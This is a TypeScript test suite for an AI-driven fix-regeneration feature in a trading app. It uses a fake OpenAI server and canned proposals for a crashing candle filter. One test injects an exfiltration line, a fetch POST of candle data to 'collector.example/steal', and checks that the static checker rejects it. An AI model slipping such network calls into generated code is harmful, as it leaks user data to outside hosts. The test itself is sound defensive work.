import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { getDb } from "@/lib/db";
import type { Prisma } from "@/lib/generated/prisma/client";
import { createLlmClientFromConfig } from "@/lib/llm/llm-client";
import { isLlmConfigured, type LlmApiMode } from "@/lib/llm/llm-config";
import { createLlmResilience, type LlmResilience } from "@/lib/llm/llm-resilience";
import type { AttemptVerification } from "@/lib/regeneration/generate-verified-fix";
import { requestRegeneration } from "@/lib/regeneration/request-regeneration";
import { runRegenerationAttempt } from "@/lib/regeneration/run-regeneration-attempt";
import { seedErrorGroup } from "@/tests/factories/seed-error-group";
import { seedTrader } from "@/tests/factories/seed-trader";
import { seedUser } from "@/tests/factories/seed-user";
import {
  cannedOutput,
  type FakeOpenAiServer,
  startFakeOpenAiServer,
} from "@/tests/support/fake-openai-server";

const db = getDb();
const API_KEY = "sk-test-regeneration";
const MODEL = "gpt-4.1-mini";

// Reads candles[20] unconditionally: crashes on a short history.
const FAILING_CODE = `export default function filter({ candles, params }) {
  const reference = candles[params.lookback];
  const last = candles[candles.length - 1];
  return last.close > reference.close;
}
`;
const PREVIOUS_CODE = `export default function filter({ candles }) {
  const last = candles[candles.length - 1];
  return last.close > last.open;
}
`;
const GOOD_CODE = `export default function filter({ candles, params }) {
  const lookback = params.lookback ?? 20;
  if (candles.length <= lookback) return { match: false, note: "not enough history" };
  const reference = candles[lookback];
  const last = candles[candles.length - 1];
  return last.close > reference.close;
}
`;
// Guards the wrong length: still reads past the end of a 3-candle history.
const STILL_FAILING_CODE = `export default function filter({ candles, params }) {
  if (candles.length < 2) return false;
  const reference = candles[params.lookback];
  return candles[candles.length - 1].close > reference.close;
}
`;

const proposal = (code: string) =>
  cannedOutput({
    code,
    explanation:
      "The filter read candle 20 on a 3-candle history. It now waits for enough history.",
    changes: ["Return no match until there are more candles than the lookback."],
  });

const candle = (index: number, close: number) => ({
  openTime: Date.UTC(2026, 10, 20, 9, 0) + index * 300_000,
  open: close * 0.998,
  high: close * 1.004,
  low: close * 0.995,
  close,
  volume: 1_200,
  closeTime: Date.UTC(2026, 10, 20, 9, 0) + index * 300_000 + 299_999,
});

const shortHistoryContext = {
  symbol: "BTCUSDT",
  interval: "5m",
  params: { lookback: 20 },
  candles: [candle(0, 64_210.5), candle(1, 64_388.1), candle(2, 64_102.9)],
};

async function seedFailingGroup() {
  const userId = (await seedUser(db)).id;
  const trader = await seedTrader(db, { userId, code: PREVIOUS_CODE });
  const failingVersion = await db.traderCodeVersion.create({
    data: { traderId: trader.id, version: 2, code: FAILING_CODE, source: "user", authorId: userId },
    select: { id: true },
  });
  await db.trader.update({
    where: { id: trader.id },
    data: { activeVersionId: failingVersion.id },
  });
  const seenAt = new Date("2026-11-20T09:15:00.000Z");
  const group = await seedErrorGroup(db, {
    userId,
    traderId: trader.id,
    title: "TypeError: Cannot read properties of undefined (reading 'close')",
    eventCount: 1,
    seenAt,
  });
  await db.errorEvent.create({
    data: {
      userId,
      traderId: trader.id,
      groupId: group.id,
      idempotencyKey: randomUUID(),
      payloadHash: randomUUID(),
      errorType: "runtime",
      errorMessage: "TypeError: Cannot read properties of undefined (reading 'close')",
      stackTrace:
        "TypeError: Cannot read properties of undefined (reading 'close')\n    at filter (filter.js:4:32)",
      triggerInterval: "5m",
      codeVersionId: failingVersion.id,
      filterCodeSnapshot: FAILING_CODE,
      context: shortHistoryContext as Prisma.InputJsonValue,
      errorHash: randomUUID().slice(0, 12),
      occurredAt: seenAt,
    },
  });
  const { attempt } = await requestRegeneration({
    userId,
    groupId: group.id,
    trigger: "manual",
    triggeredById: userId,
  });
  return { userId, traderId: trader.id, groupId: group.id, attemptId: attempt.id };
}

// An older event of the same group whose executor reported a longer history.
async function seedEarlierEvent(groupId: string) {
  const group = await db.errorGroup.findUniqueOrThrow({ where: { id: groupId } });
  const candles = Array.from({ length: 25 }, (_, index) => candle(index, 3_000 + index));
  await db.errorEvent.create({
    data: {
      userId: group.userId,
      traderId: group.traderId,
      groupId,
      idempotencyKey: randomUUID(),
      payloadHash: randomUUID(),
      errorType: "runtime",
      errorMessage: "TypeError: Cannot read properties of undefined (reading 'close')",
      errorHash: group.errorHash,
      occurredAt: new Date("2026-11-20T08:00:00.000Z"),
      context: { symbol: "ETHUSDT", interval: "5m", params: { lookback: 20 }, candles },
    },
  });
}

const readAttempt = (id: string) => db.regenerationAttempt.findUniqueOrThrow({ where: { id } });
const verificationOf = (attempt: { verification: unknown }) =>
  attempt.verification as AttemptVerification;

const fastResilience = () =>
  createLlmResilience({
    maxRetries: 2,
    initialDelayMs: 5,
    maxDelayMs: 20,
    timeoutMs: 5_000,
    breakerThreshold: 2,
    halfOpenAfterMs: 60_000,
  });

describe.each<LlmApiMode>(["responses", "chat"])("runRegenerationAttempt (%s API)", (mode) => {
  let fake: FakeOpenAiServer;
  let resilience: LlmResilience;
  const endpoint = mode === "chat" ? "/v1/chat/completions" : "/v1/responses";

  beforeAll(async () => {
    fake = await startFakeOpenAiServer({ apiKey: API_KEY, model: MODEL });
  });
  afterAll(() => fake.close());
  beforeEach(() => {
    fake.reset();
    resilience = fastResilience();
  });

  const run = (attemptId: string, maxRounds = 3) =>
    runRegenerationAttempt(
      { attemptId },
      {
        getLlm: () =>
          createLlmClientFromConfig(
            { apiKey: API_KEY, baseURL: fake.baseUrl, model: MODEL, mode },
            resilience,
          ),
        maxRounds,
      },
    );

  it("proposes a candidate that passes verification, with the evidence", async () => {
    const { attemptId, groupId } = await seedFailingGroup();
    await seedEarlierEvent(groupId);
    fake.enqueue(proposal(GOOD_CODE));

    await expect(run(attemptId)).resolves.toEqual({ attemptId, status: "proposed" });

    const attempt = await readAttempt(attemptId);
    expect(attempt).toMatchObject({
      status: "proposed",
      proposedCode: GOOD_CODE,
      explanation: expect.stringContaining("3-candle history"),
      changes: ["Return no match until there are more candles than the lookback."],
      rounds: 1,
      tokensIn: 1_200,
      tokensOut: 300,
      model: MODEL,
      error: null,
    });
    expect(attempt.promptHash).toMatch(/^[0-9a-f]{64}$/);
    expect(attempt.latencyMs).toBeGreaterThanOrEqual(0);
    expect(Number(attempt.estimatedCostUsd)).toBeCloseTo(0.00096, 6);
    expect(attempt.completedAt).toBeInstanceOf(Date);

    const verification = verificationOf(attempt);
    expect(verification.passed).toBe(true);
    expect(verification.final?.failureReproduced).toBe(true);
    const cases = verification.final?.cases ?? [];
    expect(cases.every((entry) => entry.passed && entry.new.ok)).toBe(true);
    expect(cases.find((entry) => entry.source === "failing")).toMatchObject({
      old: { ok: false, errorType: "runtime", line: 4 },
      new: { ok: true, match: false, note: "not enough history" },
    });
    expect(cases.find((entry) => entry.source === "recent_event")).toMatchObject({
      label: "ETHUSDT 5m from a recent event (25 candles)",
      old: { ok: true },
      new: { ok: true },
    });
    expect(new Set(cases.map((entry) => entry.source))).toEqual(
      new Set(["failing", "recent_event", "synthetic", "edge_case"]),
    );
    expect(cases.map((entry) => entry.label)).toEqual(
      expect.arrayContaining(["Edge case: single candle", "Edge case: zero volume"]),
    );

    expect(fake.requests).toHaveLength(1);
    const [request] = fake.requests;
    expect(request?.path).toBe(endpoint);
    expect(request?.text).toContain("TypeError: Cannot read properties of undefined");
    expect(request?.text).toContain("2 |   const reference = candles[params.lookback];");
    expect(request?.text).toContain("Changes from version 1 to version 2:");
    expect(request?.text).toContain("candles: 3 (as reported by the executor)");
  });

  it("feeds a rejected candidate's failure into the next round", async () => {
    const { attemptId } = await seedFailingGroup();
    fake.enqueue(proposal(STILL_FAILING_CODE), proposal(GOOD_CODE));

    await expect(run(attemptId)).resolves.toMatchObject({ status: "proposed" });

    const attempt = await readAttempt(attemptId);
    expect(attempt).toMatchObject({
      rounds: 2,
      tokensIn: 2_400,
      tokensOut: 600,
      proposedCode: GOOD_CODE,
    });
    const { rounds } = verificationOf(attempt);
    expect(rounds.map((round) => round.result)).toEqual(["rejected", "passed"]);
    expect(rounds[0]?.code).toBe(STILL_FAILING_CODE);
    expect(rounds[0]?.reason).toContain("The failing input (BTCUSDT 5m, 3 candles)");

    expect(fake.requests).toHaveLength(2);
    const second = fake.requests[1]?.text ?? "";
    expect(second).toContain("Your previous answer was rejected by verification.");
    expect(second).toContain("The failing input (BTCUSDT 5m, 3 candles): runtime error");
    expect(second).toContain(STILL_FAILING_CODE.trim().split("\n")[1]);
  });

  it("fails with the evidence when no round passes", async () => {
    const { attemptId } = await seedFailingGroup();
    fake.enqueue(
      proposal(STILL_FAILING_CODE),
      proposal(STILL_FAILING_CODE.replace("< 2", "< 3")),
      proposal("export default function filter( {"),
    );

    await expect(run(attemptId)).resolves.toMatchObject({ status: "failed" });

    const attempt = await readAttempt(attemptId);
    expect(attempt).toMatchObject({
      status: "failed",
      rounds: 3,
      tokensIn: 3_600,
      proposedCode: null,
      explanation: null,
    });
    expect(attempt.error).toMatch(
      /^No candidate passed verification in 3 rounds\. Last rejection: The code does not compile/,
    );
    const verification = verificationOf(attempt);
    expect(verification.passed).toBe(false);
    expect(verification.rounds.map((round) => round.result)).toEqual([
      "rejected",
      "rejected",
      "rejected",
    ]);
    expect(verification.final?.compilation).toMatchObject({ ok: false });
  });

  it("rejects a candidate that reaches for the network without running it", async () => {
    const { attemptId } = await seedFailingGroup();
    const exfiltrating = GOOD_CODE.replace(
      "const lookback",
      'fetch("https://collector.example/steal", { method: "POST", body: JSON.stringify(candles) });\n  const lookback',
    );
    fake.enqueue(proposal(exfiltrating));

    await expect(run(attemptId, 1)).resolves.toMatchObject({ status: "failed" });

    const final = verificationOf(await readAttempt(attemptId)).final;
    expect(final?.staticViolations).toEqual([
      { rule: "fetch", line: 2, message: "filters cannot use the network (fetch)" },
    ]);
    expect(final?.compilation).toBeNull();
    expect(final?.cases).toEqual([]);
  });

  it("retries provider 500s, then fails; the open breaker fails the next call fast", async () => {
    const first = await seedFailingGroup();
    const second = await seedFailingGroup();
    const third = await seedFailingGroup();
    const outage = Array.from({ length: 6 }, () => ({
      kind: "error" as const,
      status: 500,
      message: "The server had an error while processing your request.",
    }));
    fake.enqueue(...outage);

    await expect(run(first.attemptId)).resolves.toMatchObject({ status: "failed" });
    expect(fake.requests).toHaveLength(3);
    const failed = await readAttempt(first.attemptId);
    expect(failed.error).toBe(
      "The AI provider answered 500: The server had an error while processing your request.",
    );
    expect(verificationOf(failed).rounds).toEqual([
      expect.objectContaining({ round: 1, result: "provider_error" }),
    ]);

    await expect(run(second.attemptId)).resolves.toMatchObject({ status: "failed" });
    expect(fake.requests).toHaveLength(6);
    expect(resilience.getState()).toMatchObject({ state: "open", retryAfterSeconds: 60 });

    await expect(run(third.attemptId)).resolves.toMatchObject({ status: "failed" });
    expect(fake.requests).toHaveLength(6);
    expect((await readAttempt(third.attemptId)).error).toBe(
      "AI fixes are paused after repeated provider failures; try again in 60 s or fix manually.",
    );
  });

  it("gives the model another round after an unreadable answer", async () => {
    const { attemptId } = await seedFailingGroup();
    fake.enqueue({ kind: "text", text: "Sure! Here is the fix: ```js" }, proposal(GOOD_CODE));

    await expect(run(attemptId)).resolves.toMatchObject({ status: "proposed" });

    const attempt = await readAttempt(attemptId);
    expect(attempt.rounds).toBe(2);
    expect(verificationOf(attempt).rounds.map((round) => round.result)).toEqual([
      "invalid_output",
      "passed",
    ]);
    expect(fake.requests[1]?.text).toContain("Your previous answer could not be read");
  });

  it("does nothing for an attempt that already finished", async () => {
    const { attemptId } = await seedFailingGroup();
    fake.enqueue(proposal(GOOD_CODE));
    await run(attemptId);
    const before = await readAttempt(attemptId);

    await expect(run(attemptId)).resolves.toEqual({ attemptId, status: "proposed" });
    expect(fake.requests).toHaveLength(1);
    expect(await readAttempt(attemptId)).toEqual(before);
  });
});

describe("runRegenerationAttempt without a provider", () => {
  it.skipIf(isLlmConfigured())("fails the attempt with the not-configured error", async () => {
    const { attemptId } = await seedFailingGroup();

    await expect(runRegenerationAttempt({ attemptId })).resolves.toEqual({
      attemptId,
      status: "failed",
    });

    expect(await readAttempt(attemptId)).toMatchObject({
      status: "failed",
      error:
        "AI fixes are not configured: set OPENAI_API_KEY to enable them, or fix the filter manually.",
      rounds: 0,
      proposedCode: null,
    });
  });

  it("answers null for an unknown or malformed attempt id", async () => {
    await expect(runRegenerationAttempt({ attemptId: randomUUID() })).resolves.toBeNull();
    await expect(runRegenerationAttempt({ attemptId: "not-a-uuid" })).resolves.toBeNull();
  });
});
